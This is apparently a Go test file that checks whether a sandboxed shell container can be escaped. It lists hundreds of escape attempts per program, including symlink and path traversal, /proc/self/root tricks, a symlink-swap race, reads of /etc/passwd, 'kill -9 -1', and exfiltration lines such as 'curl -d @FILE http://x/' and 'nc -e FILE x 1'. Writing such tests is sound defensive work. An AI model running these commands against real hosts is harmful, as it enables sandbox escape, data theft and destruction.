package shell

import (
	"errors"
	"fmt"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/k8slab/k8slab/internal/sandbox/files"
)

const (
	canary  = "the-canary-was-seen"  // in files and the environment of the host
	listed  = "the-canary-is-listed" // a file name in the host's directory
	visible = "IT-IS-VISIBLE"        // what scripts say when a test of theirs succeeds
)

// attacks are command lines for each program: FILE is the canary, DIR its directory, by one way or
// another. What a program cannot do with a path may be missing here, a program may not.
func attacks() map[string][]string {
	pair := func(name string) []string {
		return []string{
			name + " FILE x", name + " x FILE", name + " x DIR", name + " x DIR/new", name + " FILE DIR/new", name + " DIR x2",
			name + " -r DIR x3", name + " -f x FILE", name + " -t DIR x", name + " -a DIR x4; ls -R x4; cat x4/*",
			name + " FILE /tmp/x5; cat /tmp/x5", name + " -T x DIR", name + " -n x FILE",
		}
	}
	return map[string][]string{
		"sh":  {"sh FILE", "sh < FILE", "sh -c 'cat FILE'", "sh -x FILE", "ENV=FILE sh -i < /dev/null", "BASH_ENV=FILE sh -c :", "sh DIR/program", "sh -l FILE"},
		"ash": {"ash FILE"}, "bash": {"bash FILE", "bash -c '. FILE'"},
		"echo": {"echo DIR/*", "echo DIR/../*/*", "echo > FILE", "echo x >> DIR/new"}, "printf": {"printf '%s' DIR/*", "printf x > FILE"},
		"true": {"true < FILE > DIR/new"}, "false": {"false FILE"},
		"test": tests("test", ""), "[": tests("[", "]"), "expr": {"expr FILE : '.*'"}, "seq": {"seq 1 > FILE"}, "yes": {"yes FILE | head -n 1 > DIR/new"},
		"sleep": {"sleep 0 < FILE"}, "usleep": {"usleep 1 > FILE"}, "date": {"date -r FILE && echo " + visible, "date -s FILE"},
		"timeout": {"timeout 1 cat FILE", "timeout 1 DIR/program"},
		"cat":     {"cat FILE", "cat DIR", "cat -n FILE", "cat - < FILE", "cat DIR/*", "cat fifo", "cat socket", "cat ./FILE"},
		"head":    {"head FILE", "head -c 5 FILE", "head -n -1 FILE", "head -v FILE x"}, "tail": {"tail FILE", "tail -c 9 FILE", "tail -n +1 FILE", "timeout 0.1 tail -f FILE", "timeout 0.1 tail -F fifo"},
		"tac": {"tac FILE"}, "rev": {"rev FILE | rev"}, "tee": {"echo x | tee FILE", "echo x | tee -a FILE DIR/new"},
		"wc": {"wc FILE && echo " + visible}, "cut": {"cut -c1- FILE"}, "sort": {"sort FILE", "sort -o FILE x", "sort -o DIR/new x", "sort -T DIR x"},
		"uniq": {"uniq FILE", "uniq x FILE", "uniq x DIR/new"}, "tr": {"tr x x < FILE", "echo | tr a b > FILE"}, "nl": {"nl FILE"},
		"grep": {"grep . FILE", "grep -r . DIR", "grep -f FILE x", "grep -l . DIR/*", "grep -c . FILE"}, "egrep": {"egrep . FILE"}, "fgrep": {"fgrep -f FILE x", "fgrep c FILE"},
		"sed":    {"sed p FILE", "sed -i s/./x/ FILE", "sed -i.bak s/./x/ FILE", "sed -n '1r FILE' x", "echo x | sed 'r FILE'", "sed 'w FILE' x", "sed 's/./z/w DIR/new' x", "sed -f FILE x"},
		"xargs":  {"echo FILE | xargs cat", "xargs < FILE", "echo FILE | xargs -I{} cp {} y", "xargs -a FILE"},
		"md5sum": {"md5sum FILE && echo " + visible, "md5sum -c FILE"}, "sha1sum": {"sha1sum FILE && echo " + visible}, "sha256sum": {"sha256sum FILE && echo " + visible},
		"sha512sum": {"sha512sum FILE && echo " + visible}, "base64": {"base64 FILE && echo " + visible, "base64 -d FILE"},
		"ls": {"ls DIR", "ls -la DIR", "ls -R DIR", "ls -d DIR/*", "ls -l FILE/", "ls -i FILE/.", "ls DIR/", "ls -lR ."},
		"cp": pair("cp"), "mv": pair("mv"),
		"ln": append(pair("ln"), "ln FILE hard; cat hard", "ln -s DIR soft; ls soft/; cat soft/canary", "ln -sf DIR soft; cp x soft/", "ln -s FILE soft; echo x > soft"),
		"rm": {"rm FILE", "rm -rf DIR", "rm -rf DIR/", "rm -rf DIR/*", "rm -r DIR/..", "rm -rf FILE/"}, "mkdir": {"mkdir DIR/new", "mkdir -p DIR/new/deep", "mkdir -m 777 DIR"},
		"rmdir": {"rmdir DIR", "rmdir DIR/empty", "rmdir -p DIR/empty"}, "touch": {"touch FILE", "touch DIR/new", "touch -c FILE", "touch -d @0 FILE", "touch -r FILE x && echo " + visible},
		"readlink": {"readlink -f FILE | grep secret/c", "readlink -e FILE && echo " + visible}, "realpath": {"realpath DIR/empty/x && echo " + visible},
		"stat":  {"stat -L FILE && echo " + visible, "stat -L -c %s DIR/canary && echo " + visible},
		"chmod": {"chmod 0 FILE", "chmod -R 777 DIR", "chmod u+s FILE"}, "chown": {"chown 1 FILE && echo " + visible, "chown 1 FILE DIR", "chown -R 1 DIR"}, "chgrp": {"chgrp 1 FILE && echo " + visible},
		"mktemp": {"mktemp DIR/XXXXXX", "mktemp -d DIR/XXXXXX", "mktemp -p DIR", "TMPDIR=DIR mktemp"}, "truncate": {"truncate -s 0 FILE", "truncate -s 9 DIR/new"},
		"du": {"du -a DIR", "du -s DIR/empty && echo " + visible}, "dd": {"dd if=FILE", "dd if=/dev/zero of=FILE count=1", "dd of=DIR/new count=1 if=x", "dd if=x of=FILE conv=notrunc seek=1"},
		"find": {"find DIR", "find DIR/", "find . -exec cat {} +", "find -L . -type f -exec cat {} ';'", "find DIR -delete", "find x -newer FILE && echo " + visible},
		"sync": {"sync FILE"}, "basename": {"for f in DIR/*; do basename $f; done"}, "dirname": {"dirname DIR/*"}, "pwd": {"cd DIR && pwd -P && echo " + visible}, "which": {"which DIR/program && echo " + visible, "PATH=DIR /bin/which program"},
		"env": {"env", "env -i cat FILE", "env DIR/program", "env PATH=DIR program", "env -i env"}, "printenv": {"printenv", "printenv K8SLAB_CANARY"},
		"awk": {"awk 1 FILE", "awk -f FILE", "awk 'BEGIN { while ((getline x < \"FILE\") > 0) print x }'", "awk 'BEGIN { print 1 > \"DIR/new\" }'", "awk 'BEGIN { print 1 >> \"FILE\" }'",
			"awk 'BEGIN { \"cat FILE\" | getline x; print x }'", "awk 'BEGIN { print 1 | \"cat > DIR/new\" }'", "awk 'BEGIN { system(\"cat FILE\") }'", "awk 'BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }'",
			"awk 'BEGIN { ARGV[1] = \"FILE\"; ARGC = 2 } { print }'", "awk 1 x FILE", "awk 'BEGIN { system(\"DIR/program\") }'"},
		"tar": {"tar cf - DIR | tar xf - -O", "tar c FILE", "tar cf x.tar -C DIR .; tar xOf x.tar", "tar cf DIR/new x", "tar cf x.tar x; tar xf x.tar -C DIR", "tar tf FILE", "tar xf DIR/new.tar",
			"ln -s DIR l; tar cf y.tar l/canary; tar xOf y.tar", "mkdir d; ln -s DIR d/e; tar cf z.tar d; rm -r d; tar xf z.tar; echo x > d/e/new; cat d/e/canary"},
		"gzip": {"gzip -c FILE | zcat", "gzip FILE", "gzip -f DIR/canary", "gzip -k x; mv x.gz DIR/new"}, "gunzip": {"gunzip FILE", "gunzip -c FILE", "echo x | gzip | gunzip > DIR/new"}, "zcat": {"zcat FILE", "echo x | gzip | zcat > DIR/new"},
		"od": {"od -c FILE && echo " + visible}, "hexdump": {"hexdump -C FILE && echo " + visible}, "xxd": {"xxd FILE && echo " + visible}, "strings": {"strings FILE"},
		"diff": {"diff FILE x", "diff -r DIR .", "diff -N DIR d", "diff x FILE"}, "cmp": {"cmp -s FILE FILE && echo " + visible, "cmp x FILE"},
		"paste": {"paste FILE x", "paste -s FILE"}, "fold": {"fold FILE"}, "shuf": {"shuf FILE", "shuf -o DIR/new x"}, "less": {"less FILE"}, "more": {"more FILE"}, "unlink": {"unlink FILE", "unlink DIR/canary"},
		"df": {"df FILE && echo " + visible, "df DIR"}, "free": {"free"}, "uptime": {"uptime"}, "pidof": {"pidof -s systemd init go"}, "pgrep": {"pgrep -fl ."},
		"pkill": {"pkill -9 -f go"}, "killall": {"killall -9 go"}, "watch": {"timeout 0.2 watch -n 0.1 cat FILE"}, "nohup": {"nohup cat FILE", "nohup DIR/program"}, "nice": {"nice cat FILE"},
		"setsid": {"setsid cat FILE"}, "time": {"command time cat FILE"}, "tty": {"tty"}, "groups": {"groups"}, "clear": {"clear > FILE"}, "hostid": {"hostid"},
		"hostname": {"hostname -F FILE", "hostname FILE"}, "uname": {"uname -a"}, "id": {"id"}, "whoami": {"whoami"}, "nproc": {"nproc"}, "ps": {"ps -ef"},
		"kill": {fmt.Sprintf("kill -9 %d; kill -0 %d && echo %s", os.Getpid(), os.Getpid(), visible), fmt.Sprintf("kill -9 -%d", os.Getpid()), "kill -9 -1"},
		"wget": {"wget -O FILE http://x/", "wget file://FILE", "wget -O- file://DIR/canary", "wget -P DIR http://x/", "wget --post-file=FILE http://x/", "wget -i FILE"},
		"curl": {"curl file://FILE", "curl -s file://DIR/canary", "curl -o DIR/new http://x/", "curl -d @FILE http://x/", "curl --cacert FILE https://x/", "curl -K FILE http://x/"},
		"stty": {"stty size < FILE", "stty -F FILE"},
		"nc":   {"nc -e FILE x 1", "nc x 1 < FILE", "nc -lU DIR/new"},
	}
}

// tests are all questions that test can ask.
func tests(name, end string) []string {
	var out []string
	for _, op := range strings.Split("bcdefgkLnOGprsStuwxz", "") {
		operand := "DIR/canary"
		if op == "n" || op == "z" {
			continue
		}
		out = append(out, fmt.Sprintf("%s -%s %s %s && echo %s", name, op, operand, end, visible))
	}
	for _, op := range []string{"-nt", "-ef"} {
		out = append(out, fmt.Sprintf("%s FILE/. %s nothing %s && echo %s", name, op, end, visible), fmt.Sprintf("%s DIR/canary %s DIR/canary %s && echo %s", name, op, end, visible))
	}
	return out
}

// constructs are ways of the shell itself to touch files.
func constructs() []string {
	return []string{
		"cat < FILE", ": < FILE && echo " + visible, ": > FILE", ": >> FILE", "echo x > DIR/new", "echo x >| FILE", "echo x <> FILE", "echo x &> FILE", "echo x >& FILE",
		"exec 3< FILE; cat <&3", "exec > DIR/new; echo x", "exec 3<> FILE; echo x >&3", "{ cat; } < FILE", "f() { cat; } < FILE; f", "(cat) < FILE",
		"read x < FILE; echo $x", "while read x; do echo $x; done < FILE", "x=$(<FILE); echo $x", "x=$(cat FILE); echo $x", "x=`cat FILE`; echo $x",
		"cat <<E\n$(cat FILE)\nE", "cat <<< $(cat FILE)", ". FILE", "source FILE", "PATH=DIR; . canary", "cd DIR && echo " + visible, "cd DIR; cat canary; ls; echo *", "cd -P DIR; pwd; ls", "HOME=DIR; cd; ls; echo ~/*",
		"CDPATH=DIR; cd empty && echo " + visible, "cd /; cd ..; cd ../..; ls -R . | grep " + listed, "pushd DIR", "echo DIR/*", "echo DIR/c*", "for f in DIR/*; do echo $f; done", "echo DIR/../*/*", "set -- DIR/*; echo $@", "case $(echo DIR/*) in *" + listed + "*) echo " + visible + ";; esac",
		"DIR/program", "exec DIR/program", "command DIR/program", "PATH=DIR:$PATH; program", "PATH=DIR; exec program", "eval DIR/program", "DIR/program | cat", "DIR/program &\nwait", "trap DIR/program EXIT", "builtin . FILE",
		"command -v DIR/program && echo " + visible, "type DIR/program && echo " + visible, "PATH=DIR; command -v program && echo " + visible, "PATH=DIR; type program && echo " + visible, "hash DIR/program",
		"[[ -e DIR/canary ]] && echo " + visible, "[[ -r DIR/canary || -x DIR/program ]] && echo " + visible, "[[ DIR/canary -nt /nothing ]] && echo " + visible, "[[ -O DIR/canary ]] && echo " + visible, "[[ -d DIR/empty ]] && echo " + visible,
		"cat <(cat FILE)", "echo x > >(cat > FILE)", "TMPDIR=DIR; cat <(echo x)", "TMPDIR=DIR; echo x > DIR/sh-interp-1", "mapfile < FILE", "readarray x < FILE; echo ${x}",
		"trap 'cat FILE' EXIT", "umask 0; echo x > DIR/new", "set -o allexport; . FILE", "env; set; export -p", "echo $K8SLAB_CANARY ${K8SLAB_CANARY}", "echo ~root/* ~daemon/* ~nobody/*",
		"ln -s DIR here; cat here/canary; ls here/; echo here/*; echo x > here/new", "ln -s FILE there; cat there; cat < there; echo x > there; . ./there", "mkdir d; cd d; ln -s ../../../../../../../../.. up; cat up/DIR/canary", "cp -r DIR copied; ls -R copied; cat copied/*",
		"mv DIR moved; ls -R moved; cat moved/*", "tar cf - DIR", "fifo=1; cat fifo", "echo x > fifo", "cat < fifo", ". ./fifo", "./fifo", "cd fifo", "cp fifo x; mv fifo y; cat y", "cat socket", "echo x > /dev/tcp/127.0.0.1/1", "cat /dev/fd/3 /dev/fd/4 /dev/fd/5 /dev/fd/99", "cat /proc/self/environ /proc/1/environ /proc/self/cwd/* /proc/self/root/DIR/canary", "cat /dev/stdin < FILE", "ls /proc/self/fd/", "coproc cat FILE",
	}
}

// host is a directory of the host beside a container's root.
type host struct{ base, secret string }

func newHost(t *testing.T) host {
	t.Helper()
	base := t.TempDir()
	h := host{base, filepath.Join(base, "secret")}
	for name, mode := range map[string]fs.FileMode{"canary": 0o644, "program": 0o755, listed: 0o644} {
		put(t, filepath.Join(h.secret, name), "#!/bin/sh\necho "+canary+"\n", mode)
	}
	if err := os.MkdirAll(filepath.Join(h.secret, "empty"), 0o755); err != nil {
		t.Fatal(err)
	}
	return h
}

func put(t *testing.T, name, content string, mode fs.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(name, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
}

// root is a container's root beside the secret.
func (h host) root() string { return filepath.Join(h.base, "root") }

// arm puts the ways out into the root and the volume, where an attack has removed them.
func (h host) arm(t *testing.T) {
	t.Helper()
	put(t, filepath.Join(h.root(), "w/x"), "x\n", 0o644)
	put(t, filepath.Join(h.base, "volume/v"), "v\n", 0o644)
	for name, target := range map[string]string{
		"w/abs": h.secret, "w/rel": "../../secret", "w/host": "/", "w/proc": "/proc/self/root" + h.secret, "w/file": filepath.Join(h.secret, "canary"), "../volume/out": "../secret",
	} {
		name = filepath.Join(h.root(), name)
		if old, err := os.Readlink(name); err == nil && old == target {
			continue
		}
		os.RemoveAll(name)
		if err := os.Symlink(target, name); err != nil {
			t.Fatal(err)
		}
	}
	if err := syscall.Mkfifo(filepath.Join(h.root(), "w/fifo"), 0o666); err != nil && !errors.Is(err, fs.ErrExist) {
		t.Fatal(err)
	}
}

// box makes a container in the root.
func (h host) box(t *testing.T, mounts ...files.Mount) *box {
	t.Helper()
	h.arm(t)
	return newBox(t, func(_ *Config, o *files.Options) {
		o.Root = h.root()
		o.Mounts = append(mounts, files.Mount{Path: "/v", Source: filepath.Join(h.base, "volume")})
		o.Quota = 1 << 20
	})
}

// ways are names under which the host's directory might be reached.
func (h host) ways() []string {
	return []string{
		h.secret, "../secret", "../../../../../../../.." + h.secret, "/../secret", "/../../.." + h.secret, "abs", "rel", "host" + h.secret, "proc", "/v/out", "/v/../../secret",
		"abs/../secret", "/proc/self/root" + h.secret, "/proc/1/cwd" + h.secret, "x/../../../secret", "/dev/../../secret",
	}
}

// snapshot is everything about the host's directory that must not change.
func (h host) snapshot(t *testing.T) string {
	t.Helper()
	var b strings.Builder
	err := filepath.WalkDir(h.secret, func(name string, _ fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := os.Lstat(name)
		if err != nil {
			return err
		}
		data, _ := os.ReadFile(name)
		fmt.Fprintf(&b, "%s %s %d %s %d %q\n", name, info.Mode(), info.Size(), info.ModTime(), (&files.Info{FileInfo: info}).Links(), data)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestNothingReachesTheHost runs every attack by every way.
func TestNothingReachesTheHost(t *testing.T) {
	t.Setenv("K8SLAB_CANARY", canary)
	passwd, _ := os.ReadFile("/etc/passwd")
	firstUser, _, _ := strings.Cut(string(passwd), "\n")
	all := attacks()
	for name := range programs() {
		if len(all[name]) == 0 {
			t.Errorf("the program %s has no attacks: add some", name)
		}
	}
	all["the shell"] = constructs()
	for _, name := range slices.Sorted(maps.Keys(all)) {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := newHost(t)
			before := h.snapshot(t)
			b := h.box(t)
			for _, way := range append(h.ways(), "/etc") {
				for _, attack := range all[name] {
					h.arm(t)
					file := way + "/canary"
					if way == "/etc" {
						file = way + "/passwd"
					}
					script := strings.NewReplacer("FILE", file, "DIR", way).Replace(attack)
					r := strings.ReplaceAll(b.attack(t, script), script, "")
					for _, bad := range []string{canary, listed, visible, firstUser} {
						if strings.Contains(r, bad) && !legitimate(bad, way) {
							t.Errorf("%s\nshows %q:\n%s", script, bad, r)
						}
					}
				}
				if after := h.snapshot(t); after != before {
					t.Fatalf("%s: the host's directory has changed by %s\nbefore:\n%s\nafter:\n%s", name, way, before, after)
				}
			}
			b.mustNotHold(t, canary)
		})
	}
}

// legitimate says that something may be seen: the container's own /etc exists once it was made.
func legitimate(bad, way string) bool { return way == "/etc" && bad == visible }

// attack runs a script and returns all that it said.
func (b *box) attack(t *testing.T, script string) string {
	t.Helper()
	r := b.run(t, Command{Argv: []string{"sh", "-c", script}, Dir: "/w", Env: []string{"PATH=/bin"}})
	fresh := New(b.config) // the first process of a container is PID 1, and its end the container's
	b.Container.Close()
	b.Container = fresh
	return r.out + r.err
}

// mustNotHold checks that nothing was copied into the container.
func (b *box) mustNotHold(t *testing.T, secret string) {
	t.Helper()
	err := filepath.WalkDir(b.root, func(name string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		data, err := os.ReadFile(name)
		if strings.Contains(string(data), secret) {
			t.Errorf("%s holds the canary", name)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestAttacksAreReal mounts the host's directory into the container: the same attacks have to reach
// it, or they prove nothing.
func TestAttacksAreReal(t *testing.T) {
	all := attacks()
	all["the shell"] = constructs()
	harmless := strings.Fields("true false expr usleep sleep seq printf sync uname id whoami nproc ps kill hostname printenv wget curl nc dirname date free uptime pidof pgrep pkill killall tty groups hostid stty")
	for name, list := range all {
		if slices.Contains(harmless, name) {
			continue
		}
		h := newHost(t)
		before := h.snapshot(t)
		b := h.box(t, files.Mount{Path: "/open", Source: h.secret})
		reached := false
		for _, attack := range list {
			script := strings.NewReplacer("FILE", "/open/canary", "DIR", "/open").Replace(attack)
			r := b.attack(t, script)
			reached = reached || strings.Contains(r, canary) || strings.Contains(r, listed) || strings.Contains(r, visible) || h.snapshot(t) != before
		}
		if !reached {
			t.Errorf("no attack of %s would reach an open directory", name)
		}
	}
}

// TestRace swaps a directory for a symlink out of the root while a container works in it.
func TestRace(t *testing.T) {
	h := newHost(t)
	b := h.box(t)
	before := h.snapshot(t)
	flip := filepath.Join(b.root, "w/flip")
	stop, done := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(done)
		for {
			select {
			case <-stop:
				return
			default:
			}
			os.Mkdir(flip, 0o755)
			os.WriteFile(filepath.Join(flip, "canary"), []byte("mine\n"), 0o644)
			os.Rename(flip, flip+"2")
			os.Symlink(h.secret, flip)
			os.Remove(flip)
			os.RemoveAll(flip + "2")
		}
	}()
	script := "i=0; while [ $i -lt 300 ]; do cat flip/canary; ls flip/; echo x > flip/canary; echo x > flip/new; rm -rf flip/new; chmod 777 flip/canary; touch flip/canary; (cd flip && ls && cat canary); cp flip/canary stolen; mv x flip/ && mv flip/x x; i=$((i+1)); done 2>/dev/null"
	out := b.sh(t, script).out
	close(stop)
	<-done
	if strings.Contains(out, canary) || strings.Contains(out, listed) {
		t.Error("the canary was seen")
	}
	if after := h.snapshot(t); after != before {
		t.Errorf("before:\n%s\nafter:\n%s", before, after)
	}
	b.mustNotHold(t, canary)
}
